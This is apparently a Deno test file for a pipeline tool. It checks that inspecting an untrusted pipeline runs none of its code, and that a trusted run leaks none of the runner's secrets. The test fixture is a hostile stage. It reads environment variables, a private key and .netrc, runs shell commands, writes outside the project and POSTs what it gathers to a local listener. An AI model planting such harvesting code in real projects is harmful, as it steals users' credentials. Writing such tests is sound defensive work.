import { assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { inFolder, type Ran, tvp } from "./workplace.ts";

/**
 * A pipeline file of a stranger's: its stage takes what it can get as soon as it is loaded, when its
 * schema is asked, and when its outputs are. Whatever it gets it writes and sends.
 */
function hostile(folder: string, port: number): string {
  return `import { z } from "zod";
import { defineStage } from "${
    new URL("../../lib/pipeline/contract/stage.ts", import.meta.url).href
  }";
function take(when) {
  const got = [when];
  const attempt = (f) => { try { got.push(String(f())); } catch { /* not given */ } };
  attempt(() => JSON.stringify(Deno.env.toObject()));
  attempt(() => Deno.env.get("TVP_CACHE_PRIVATE_KEY"));
  attempt(() => Deno.readTextFileSync("${folder}/home/.netrc"));
  attempt(() => Deno.readTextFileSync(new URL("./link.ts", import.meta.url)));
  attempt(() => new Deno.Command("touch", { args: ["${folder}/outside/ran"] }).outputSync());
  attempt(() => Deno.dlopen("/no/library.so", {}));
  attempt(() => Deno.writeTextFileSync("${folder}/outside/" + when, got.join()));
  fetch("http://127.0.0.1:${port}/" + when, { method: "POST", body: got.join() }).catch(() => {});
  console.log(got.join());
  return got.join();
}
const seen = take("load");
export default defineStage({
  name: "taker", description: seen,
  with: z.strictObject({ x: z.string().transform((x) => (take("check"), x)) }),
  outputs: { text: "text" }, isolation: "inline",
  declareOutputs: () => (take("outputs"), {}),
  async run(_, context) { await Deno.writeTextFile(context.output("text"), take("run")); },
});
`;
}

const pipeline = `name: gift
stageFolder: ./own
stages:
  a: { uses: taker, with: { x: y } }
  b: { uses: command, with: { run: [sh, -c, "env > {outputs.t}; touch OUT/command"], outputs: { t: text } } }
`;

const secrets = {
  TVP_CACHE_TOKEN: "canary-token-1",
  AWS_SECRET_ACCESS_KEY: "canary-aws-2",
  HF_TOKEN: "canary-hf-3",
};

/** Commands that look at a pipeline, or at what is left of it. */
const looking: readonly (readonly string[])[] = [
  ["plan", "p.yaml"],
  ["run", "p.yaml", "--plan"],
  ["run", "p.yaml", "--require-trust"],
  ["graph", "p.yaml", "--tasks"],
  ["status", "p.yaml"],
  ["why", "p.yaml", "a"],
  ["logs", "p.yaml", "a"],
  ["show", "p.yaml", "a"],
  ["pull", "p.yaml", "--remote", "REMOTE"],
  ["push", "p.yaml", "--remote", "REMOTE"],
  ["trust", "p.yaml", "--dry-run"],
  ["schema"],
  ["runs"],
  ["gc"],
  ["verify"],
  ["completions", "--words", "--", "why", "p.yaml", ""],
];

Deno.test("looking at a stranger's pipeline leaves no trace and shows no secret", () =>
  inFolder(async (folder) => {
    const heard: string[] = [];
    await using server = Deno.serve(
      { port: 0, hostname: "127.0.0.1", onListen() {} },
      (request) => {
        heard.push(request.url);
        return new Response("", { status: 404 });
      },
    );
    for (const name of ["own", "home", "outside", "remote"]) Deno.mkdirSync(`${folder}/${name}`);
    Deno.writeTextFileSync(`${folder}/home/.netrc`, "canary-home-4");
    Deno.symlinkSync(`${folder}/home/.netrc`, `${folder}/own/link.ts`);
    Deno.writeTextFileSync(`${folder}/own/taker.ts`, hostile(folder, server.addr.port));
    Deno.writeTextFileSync(`${folder}/p.yaml`, pipeline.replace("OUT", `${folder}/outside`));
    const { privateKey, publicKey } = JSON.parse((await tvp(folder, "keys", "--json")).out);
    Deno.writeTextFileSync(`${folder}/cache_keys.txt`, `${publicKey}\n`);
    // The packages of this machine lie below its own home.
    const env = {
      ...secrets,
      TVP_CACHE_PRIVATE_KEY: privateKey,
      XDG_CONFIG_HOME: `${folder}/home`,
    };
    const hidden = [...Object.values(secrets), privateKey];
    const call = async (args: readonly string[], canaries = hidden): Promise<Ran> => {
      const words = args.map((word) => word.replace("REMOTE", `file://${folder}/remote`));
      const ran = await tvp(folder, ...words, { env });
      for (const canary of canaries) {
        assertEquals((ran.out + ran.err).includes(canary), false, `${words.join(" ")}: ${canary}`);
      }
      return ran;
    };
    for (const args of looking) {
      const { code, err } = await call(args, [...hidden, "canary-"]);
      assertEquals([0, 1, 2].includes(code), true, `${args.join(" ")}: ${err}`);
      assertEquals(
        [...Deno.readDirSync(`${folder}/outside`)].map(({ name }) => name),
        [],
        args.join(" "),
      );
    }
    assertEquals(heard, []);
    assertEquals([...Deno.readDirSync(`${folder}/home`)].map(({ name }) => name), [".netrc"]);

    const run = await call(["run", "p.yaml", "--trust"]);
    assertEquals(run.code, 0, run.err);
    assertEquals(run.err, "");
    const got = Deno.readTextFileSync(`${folder}/outside/run`) +
      Deno.readTextFileSync(`${folder}/.tvp/runs/gift/latest/b/t.txt`);
    // It runs as the user does: files of theirs it reads, but no secret of the runner's.
    assertStringIncludes(got, "canary-home-4");
    for (const secret of hidden) {
      assertEquals(got.includes(secret), false);
    }
    assertMatch(
      (await call(["trust", "p.yaml"])).out,
      /^trusted .*\ntrusted .*\nAll of it is trusted\n$/,
    );
  }));
